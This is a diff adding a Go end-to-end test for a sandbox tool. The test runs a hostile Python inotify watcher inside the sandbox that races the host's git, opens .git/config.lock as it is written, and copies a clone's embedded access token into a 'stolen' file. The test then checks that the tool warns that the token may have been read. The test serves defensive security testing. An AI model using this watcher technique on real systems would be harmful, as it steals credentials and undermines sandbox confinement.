@@ -1,11 +1,15 @@
 package replay
 
 import (
+	"fmt"
+	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/claudebox/claudebox/e2e/harness"
+	"github.com/claudebox/claudebox/paths"
 )
 
 // TestReplayReview28InBranchRemoteURL: a branch's upstream may be a URL
@@ -93,5 +97,91 @@ func TestReplayReview28InPHPMailerPassword(t *testing.T) {
 	}
 	if !strings.Contains(out, "LIMIT=333M FROM=shop@example.com") {
 		t.Errorf("inside, want php to run with its harmless settings:\n%s", out)
+	}
+}
+
+// review28LockWatcher is a hostile sandbox's program: it watches the git
+// directory for the host's git to make config.lock, the new configuration
+// it writes whole before renaming it over config, opens it as it is made,
+// and once git renamed it into place, keeps what git wrote into it in the
+// project, as "stolen"; it writes "ready" once it watches.
+const review28LockWatcher = `import ctypes, os, struct, sys
+libc = ctypes.CDLL(None, use_errno=True)
+fd = libc.inotify_init()
+gitdir = sys.argv[1]
+libc.inotify_add_watch(fd, gitdir.encode(), 0x100 | 0x40)
+open("ready", "w").close()
+lock = None
+while True:
+    buf = os.read(fd, 4096)
+    i = 0
+    while i < len(buf):
+        wd, mask, cookie, ln = struct.unpack_from("iIII", buf, i)
+        name = buf[i+16:i+16+ln].rstrip(b"\0").decode()
+        i += 16 + ln
+        if name != "config.lock":
+            continue
+        if mask & 0x100:
+            try:
+                lock = os.open(os.path.join(gitdir, name), os.O_RDONLY)
+            except OSError:
+                pass
+        elif lock is not None:
+            data = os.pread(lock, 1 << 20, 0)
+            os.close(lock)
+            open("stolen", "wb").write(data)
+            sys.exit(0)
+`
+
+// TestReplayReview28InHostGitConfigLockRead: the copy of the project's
+// .git/config hides a clone's token from the sandbox, but when the host's
+// git rewrites the file while a session runs (git config, git switch to a
+// new tracking branch, git push -u, git remote add), it writes the whole
+// new file first as config.lock in the git directory, which the sandbox
+// reads and writes: a sandbox that watches the directory opens it as git
+// makes it and reads every token in it, the clone's too, though the host's
+// change wrote none. Not closed (the host's git writes where the sandbox
+// reads); the end said the sandbox could have written the new file, not
+// read it. Proof: the end says a token there may have been read, to
+// revoke it.
+func TestReplayReview28InHostGitConfigLockRead(t *testing.T) {
+	h := harness.NewHost(t)
+	harness.RequireTool(t, "python3", "apt-get install python3")
+	proj := filepath.Join(h.Home, "code", "app")
+	h.GitRepo(proj)
+	h.Run(proj, nil, "git", "remote", "add", "origin", "https://oauth2:glpat-R28CLONETOKEN@gitlab.example.com/team/app.git")
+	h.Chown()
+	_, out, exited := harness.StartSession(t, h, proj, `cat > /tmp/watch.py <<'EOF'
+`+review28LockWatcher+`EOF
+		python3 /tmp/watch.py "$PWD/.git" &
+		while ! test -e ready; do sleep 0.05; done
+		touch started
+		while ! test -e go; do sleep 0.05; done
+		kill $! 2>/dev/null
+		touch finished
+		while ! test -e done; do sleep 0.05; done`)
+	// Changes that write no token; the watcher may miss a lock that is
+	// gone before it opens it, on a loaded machine, and waits for the next.
+	for i := 0; i < 20 && !paths.Exists(filepath.Join(proj, "stolen")); i++ {
+		h.Run(proj, nil, "git", "config", "user.email", fmt.Sprintf("alice%d@example.com", i))
+		time.Sleep(100 * time.Millisecond)
+	}
+	if err := os.WriteFile(filepath.Join(proj, "go"), nil, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	harness.WaitFor(t, "the sandbox's watcher", func() bool {
+		return paths.Exists(filepath.Join(proj, "finished")) || len(exited) > 0
+	})
+	harness.TouchDone(t, proj)
+	select {
+	case <-exited:
+	case <-time.After(time.Minute):
+		t.Fatal("the session did not end")
+	}
+	got := out.String()
+	stolen, _ := os.ReadFile(filepath.Join(proj, "stolen"))
+	t.Logf("the sandbox read the clone's token as the host's git wrote the new file: %v\n%s\n%s", strings.Contains(string(stolen), "R28CLONETOKEN"), stolen, got)
+	if !strings.Contains(got, "may have been read: revoke it") {
+		t.Errorf("the end does not say a token in the repository's configuration the host rewrote may have been read:\n%s", got)
 	}
 }
